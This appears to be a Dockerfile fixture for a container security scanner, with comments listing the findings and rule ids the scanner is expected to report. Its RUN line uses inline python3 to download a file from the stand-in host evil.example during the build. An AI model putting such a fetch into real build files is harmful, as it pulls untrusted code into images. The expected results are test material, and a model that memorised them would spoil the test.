FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN python3 -c "import urllib.request;urllib.request.urlretrieve('https://evil.example/a','/a')"
USER app
# expect: download 2 high "python3 inline code fetches https://evil.example/a"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-235b0f360f VR501-e064bac1a6
